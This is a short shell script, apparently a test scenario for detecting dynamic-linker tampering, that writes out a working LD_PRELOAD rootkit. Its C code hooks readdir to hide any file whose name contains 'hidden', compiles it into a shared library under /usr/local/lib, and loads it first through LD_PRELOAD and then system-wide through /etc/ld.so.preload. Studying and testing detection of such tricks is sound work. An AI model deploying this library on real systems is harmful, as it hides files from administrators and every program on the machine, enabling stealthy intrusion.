# A rootkit of the dynamic linker: a library that every program of this machine will load, and nobody will see.
. "$(dirname "$0")/scene.sh"
cat >hide.c <<'END'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *directory)
{
	struct dirent *(*real)(DIR *) = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry;
	while ((entry = real(directory)) != NULL && strstr(entry->d_name, "hidden") != NULL)
		;
	return entry;
}
END
cc -shared -fPIC -o /usr/local/lib/libhide.so hide.c
deed preload-argument
sh -c "LD_PRELOAD=/usr/local/lib/libhide.so ls /usr/local/lib" >/dev/null
deed preload-file
echo /usr/local/lib/libhide.so >/etc/ld.so.preload
ls /usr/local/lib >/dev/null
rm -f /etc/ld.so.preload
